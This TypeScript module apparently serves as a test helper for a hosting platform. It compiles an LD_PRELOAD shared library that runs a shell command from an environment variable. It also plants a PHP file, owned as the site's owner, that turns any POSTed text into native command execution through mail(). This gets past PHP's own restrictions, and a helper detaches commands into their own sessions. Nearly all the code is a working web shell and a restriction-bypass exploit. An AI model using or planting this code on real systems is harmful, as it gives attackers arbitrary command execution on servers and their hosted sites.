import { spawnSync } from 'node:child_process'
import { chownSync, lstatSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

/** Runs ORDER by a shell in the process that loads it, and nothing more of that process's own program. */
const LIBRARY = `
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void run(void) {
  const char *order = getenv("ORDER");
  unsetenv("LD_PRELOAD");
  if (order) execl("/bin/bash", "bash", "-c", order, (char *)0);
}
`

/** mail() starts a program with the environment of PHP's own: past every setting of PHP, what it loads is native code. */
const PROGRAM = `<?php
putenv('LD_PRELOAD=' . __DIR__ . '/n.so');
putenv('ORDER=' . file_get_contents('php://input'));
mail('a@example.com', 'b', 'c');
echo 'mailed';
`

/** Puts a program into a site that runs any order natively, as a real customer's would: POST it to /n.php. */
export function giveNative(root: string): void {
  const { uid, gid } = lstatSync(root)
  for (const [name, content] of [
    ['n.so', library()],
    ['n.php', PROGRAM],
  ] as const) {
    writeFileSync(join(root, name), content, { mode: 0o640 })
    chownSync(join(root, name), uid, gid)
  }
}

let compiled: Buffer | null = null

function library(): Buffer {
  if (compiled !== null) return compiled
  const directory = mkdtempSync(join(tmpdir(), 'native-'))
  writeFileSync(join(directory, 'n.c'), LIBRARY)
  const argv = ['-shared', '-fPIC', '-o', join(directory, 'n.so'), join(directory, 'n.c')]
  const made = spawnSync('/usr/bin/gcc', argv)
  if (made.status !== 0) throw new Error(`gcc: ${made.stderr}`)
  compiled = readFileSync(join(directory, 'n.so'))
  rmSync(directory, { recursive: true })
  return compiled
}

/** An order that runs on by itself, in a session of its own, whatever becomes of its parent. */
export const daemon = (order: string): string =>
  `setsid bash -c ${quoted(order)} >/dev/null 2>&1 </dev/null & disown; exit 0`

export const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`
